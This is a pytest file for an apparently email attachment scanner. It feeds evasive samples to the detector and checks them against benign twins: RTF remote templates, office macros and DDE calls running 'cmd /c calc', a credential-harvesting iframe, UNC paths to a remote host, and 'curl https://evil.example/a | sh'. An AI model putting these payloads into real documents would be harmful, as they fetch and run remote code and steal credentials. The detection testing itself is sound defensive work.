"""What somebody tried who wanted to get past: variants of tricks, each with the honest twin that stays quiet."""

import base64

import pytest

from mailflows.examine.charsets import decoded_words
from mailflows.examine.finding import Finding
from mailflows.examine.pages.codes import codes_drawn
from mailflows.examine.read import mailboxes
from mailflows.examine.turn import take_turn
from tests.exhibits import mail, part, zipped_as
from tests.exhibits import office as made
from tests.exhibits.invitations import calendar
from tests.exhibits.pages import code, pdf
from tests.exhibits.phones import der, signature

EVIL = "https://evil.example/a"
ODF = {"mimetype": b"application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": b"<m/>"}
FLAT = (
    '<?xml version="1.0"?><office:document office:mimetype="application/vnd.oasis.opendocument.text">'
    "<office:scripts><office:script><ooo:libraries><ooo:library-embedded><ooo:module>"
    "<ooo:source-code>{}</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>"
    "</office:scripts></office:document>"
)


def found_in(name: str, content: bytes, kind: str = "application/octet-stream") -> list[Finding]:
    """Everything that weighs in one file of a reporter's mail."""
    raw = mail("look", part(content, kind, name))
    findings = take_turn(raw, "mail").findings + take_turn(raw, "mail/2").findings
    return [finding for finding in findings if finding.weight > 0]


def heaviest(name: str, content: bytes, look: str) -> int:
    return max((one.weight for one in found_in(name, content) if one.look == look), default=0)


@pytest.mark.parametrize(
    "template",
    [
        rb"\u104?\u116?\u116?\u112?\u58?//evil.example/t.dotm",
        rb"\u-65432?\u-65420?\u-65420?\u-65424?\u-65478?//evil.example/t.dotm",
        rb"\uc0\u104\u116\u116\u112\u58 //evil.example/t.dotm",
        rb"\uc2\u104\'3f?\u116??ttp".replace(b"ttp", b"tp://evil.example/t.dotm"),
        rb"\'68\'74\'74\'70://evil.example/t.dotm",
    ],
)
def test_f05_a_template_whose_letters_are_numbers(template: bytes) -> None:
    assert heaviest("a.rtf", made.rich(rb"{\*\template " + template + b"}"), "F05") == 6


def test_f03_code_in_a_flat_open_document() -> None:
    assert heaviest("a.fodt", FLAT.format('Sub Main\nShell("cmd /c calc")\nEnd Sub').encode(), "F03") >= 3
    assert found_in("a.fodt", FLAT.format("").encode()) == []


@pytest.mark.parametrize(
    ("call", "weight"),
    [
        ("vnd.sun.star.script:../../program/pydoc.py$tempfilepager?language=Python&amp;location=share", 6),
        ("vnd.sun.star.script:%2e%2e/%2e%2e/x.py$run?language=Python&amp;location=share", 6),
        ("vnd.sun.star.script:Standard.Sums.Total?language=Basic&amp;location=application", 0),
    ],
)
def test_f03_a_script_of_the_program_itself(call: str, weight: int) -> None:
    text = f'<office:document-content><script:event-listener script:event-name="dom:mouseover" xlink:href="{call}"/>'
    content = zipped_as({**ODF, "content.xml": f"{text}</office:document-content>".encode()})
    assert heaviest("a.odt", content, "F03") == weight


def test_f06_a_cell_of_open_document_that_asks_a_program() -> None:
    cell = '<office:document-content><table:table-cell table:formula="of:={}"/></office:document-content>'
    asking = cell.format("DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)").encode()
    assert heaviest("a.ods", zipped_as({**ODF, "content.xml": asking}), "F06") == 6
    summing = cell.format("SUM([.A1:.A9])").encode()
    assert found_in("a.ods", zipped_as({**ODF, "content.xml": summing})) == []


def test_f06_a_workbook_that_asks_the_web_on_opening() -> None:
    said = '<connections><connection {}><webPr url="{}"/></connection></connections>'
    opening = made.workbook(xl_S_connections__xml=said.format('refreshOnLoad="1"', EVIL).encode())
    waiting = made.workbook(xl_S_connections__xml=said.format("", EVIL).encode())
    assert heaviest("a.xlsx", opening, "F06") == 3 and heaviest("a.xlsx", waiting, "F06") == 1


def test_f05_what_reaches_out_from_unusual_places() -> None:
    ribbon = made.document(customUI_S_customUI__xml=f'<customUI onLoad="{EVIL}.dotm!Run"/>'.encode())
    assert heaviest("a.docx", ribbon, "F05") == 5
    film = '<w:p><wp15:webVideoPr embeddedHtml="&lt;iframe src=&quot;{}&quot;&gt;"/></w:p>'
    assert heaviest("a.docx", made.document(film.format(EVIL)), "F05") == 3
    assert heaviest("a.docx", made.document(film.format("https://www.youtube.com/embed/x")), "F05") == 0
    entity = (
        '<!DOCTYPE x [<!ENTITY u "https://evil.example/t">]><Relationships><Relationship Target="&u;"/></Relationships>'
    )
    assert heaviest("a.docx", made.document(word_S__rels_S_settings__xml__rels=entity.encode()), "F05") == 3


def test_f25_a_zip_that_only_says_it_is_a_document() -> None:
    assert heaviest("a.docx", b"PK\x03\x04" + bytes(range(256)) * 10, "F25") == 1
    assert found_in("a.docx", made.document()) == []


def test_f09_a_font_that_acts() -> None:
    font = b"<< /Type /Font /Subtype /Type1 /FontMatrix [%s] >>"
    assert heaviest("a.pdf", pdf(font % b"1 2 3 4 5 (1\\); alert\\('x')", words="x"), "F09") == 6
    assert heaviest("a.pdf", pdf(font % b"0.001 0 0 0.001 0 0", words="x"), "F09") == 0


def test_f10_pages_in_frames_and_in_xml() -> None:
    frame = '<html><p>Report</p><iframe srcdoc="&lt;form&gt;&lt;input type={}&gt;&lt;/form&gt;"></iframe></html>'
    assert heaviest("a.html", frame.format("password").encode(), "F10") == 4
    assert heaviest("a.html", frame.format("search").encode(), "F10") == 0
    page = f'<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>location="{EVIL}"</h:script></x>'
    assert heaviest("a.xml", page.encode(), "F10") >= 3
    assert found_in("a.xml", b'<?xml version="1.0"?><feed><title>x</title></feed>') == []


def test_f10_what_is_typed_into_no_form() -> None:
    page = '<html>Password<div contenteditable></div><button onclick="{}">Sign in</button></html>'
    assert heaviest("a.html", page.format("fetch('https://evil.example/',{method:'POST'})").encode(), "F10") == 3
    assert heaviest("a.html", page.format("this.focus()").encode(), "F10") == 0


def test_f10_a_saved_page_under_the_name_of_a_document() -> None:
    head = b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x; type="text/html"\r\n\r\n'
    saved = head + b"--x\r\nContent-Type: text/html\r\n\r\n<html><form><input type=password></form></html>\r\n--x--\r\n"
    raw = mail("look", part(saved, "application/msword", "a.doc"))
    (inner,) = take_turn(raw, "mail/2").further
    assert "F10" in {one.look for one in take_turn(raw, inner).findings}


@pytest.mark.parametrize("form", ["picture", "signs"])
def test_codes_that_stand_in_the_text_of_a_mail(form: str) -> None:
    import segno

    rows = [*map(list, segno.make(EVIL, micro=False).matrix), []]
    rows[-1] = [0] * len(rows[0])
    signs = {(0, 0): " ", (1, 1): "\u2588", (1, 0): "\u2580", (0, 1): "\u2584"}
    drawn = "\n".join(
        "".join(signs[bool(upper), bool(lower)] for upper, lower in zip(*pair, strict=True))
        for pair in zip(rows[::2], rows[1::2], strict=True)
    )
    pictured = f'<img src="data:image/png;base64,{base64.b64encode(code(EVIL)).decode()}">'
    page = f"<p>Scan</p>{pictured}" if form == "picture" else f"<p>Scan</p><pre>{drawn}</pre>"
    assert codes_drawn([page], "") == (EVIL,)


def test_pictures_in_a_page_that_hold_no_code_cost_nothing() -> None:
    long = base64.b64encode(code(EVIL)).decode()
    assert codes_drawn([f'<img src="data:image/png;base64,{long[:200]}">' * 100], "") == ()
    assert codes_drawn(["<img src='data:image/png;base64,AAAA'>"], "") == ()


@pytest.mark.parametrize(
    ("name", "loud", "quiet"),
    [
        ("desktop.ini", "[.ShellClassInfo]\r\nIconResource={}a.ico,0", "[.ShellClassInfo]\r\nIconResource=C:\\a.ico,0"),
        ("songs.m3u", "#EXTM3U\r\n{}a.mp3", "#EXTM3U\r\nhttps://radio.example/live\r\nC:\\Music\\a.mp3"),
        (
            "film.asx",
            '<asx><entry><ref href="{}a.wmv"/></entry></asx>',
            '<asx><ref href="https://tv.example/a"/></asx>',
        ),
    ],
)
def test_f13_ordinary_files_that_call_at_another_computer(name: str, loud: str, quiet: str) -> None:
    assert heaviest(name, loud.format("\\\\203.0.113.9\\s\\").encode(), "F13") == 6
    assert heaviest(name, loud.format("file://203.0.113.9/s/").encode(), "F13") == 6
    assert found_in(name, quiet.encode()) == []


def test_f16_a_script_without_an_ending() -> None:
    assert heaviest("install", b"#!/bin/sh\ncurl https://evil.example/a | sh\n", "F16") == 3
    assert heaviest("install", b"#!/bin/sh\necho hello\n", "F16") == 0


@pytest.mark.parametrize("ending", "shortcut ppkg shs ws pyc its webpnp saver snap".split())
def test_f16_rare_endings_that_act(ending: str) -> None:
    assert heaviest(f"report.{ending}", b"whatever it holds", "F16") == 5


@pytest.mark.parametrize("kind", ["message/partial", "message/external-body"])
def test_f25_parts_that_are_not_in_the_mail(kind: str) -> None:
    raw = mail("look", part(b"Content-Type: text/plain\r\n\r\nhello", f"{kind}; id=x", encoded=False))
    assert "F25" in {one.look for one in take_turn(raw, "mail/2").findings}


def test_an_invitation_in_two_octets_a_letter_is_read() -> None:
    wide = calendar("DESCRIPTION:https://evil.example/a.apk").decode().encode("utf-16")
    assert "U13" in {one.look for one in found_in("a.ics", wide)}


@pytest.mark.parametrize("field", ["From", "To", "Reply-To", "Cc", "Subject"])
def test_one_broken_word_does_not_keep_a_mail_from_being_read(field: str) -> None:
    raw = (
        f"{field}: =?utf-8?b?2KfZhNio2YbZgwA?= <x@evil.example>\r\nX: y\r\n\r\nhttps://evil.example/a.apk\r\n".encode()
    )
    assert "U13" in {one.look for one in take_turn(raw, "suspect").findings}
    letter = take_turn(raw, "mail").letter
    assert letter is not None and "https://evil.example/a.apk" in letter.text


def test_a_word_with_one_letter_too_many_is_read_as_mail_programs_show_it() -> None:
    assert mailboxes("=?utf-8?b?UGF5UGFsA?= <a@evil.example>")[0].name == "PayPal"
    assert decoded_words("=?utf-8?b?UGF5UGFsA?=") == "PayPal"


def test_f25_files_that_break_off_or_are_nothing() -> None:
    whole = made.old_document("hello")
    assert heaviest("a.doc", whole[: len(whole) // 2], "F25") == 1 and found_in("a.doc", whole) == []
    assert heaviest("a.tgz", bytes(range(256)), "F25") == 1
    assert heaviest("a.epub", zipped_as({"mimetype": b"application/epub+zip", "a.xhtml": b"<p>x</p>"}), "F25") == 1


@pytest.mark.parametrize("armoured", [True, False])
@pytest.mark.parametrize(("vouches", "weight"), [(b"\x30\x03\x01\x01\xff", 3), (b"\x30\x00", 0)])
def test_f19_the_certificate_of_an_authority(armoured: bool, vouches: bytes, weight: int) -> None:
    constraints = der(0x30, der(0x06, bytes.fromhex("551d13")) + b"\x01\x01\xff" + der(0x04, vouches))
    held = der(0x30, der(0x30, der(0x0C, b"Network of Layla" * 10) + der(0xA3, der(0x30, constraints))))
    written = b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(held) + b"-----END CERTIFICATE-----\n"
    assert heaviest("wifi.crt", written if armoured else held, "F19") == weight
    assert heaviest("smime.p7s", signature(b"", held), "F19") == 0
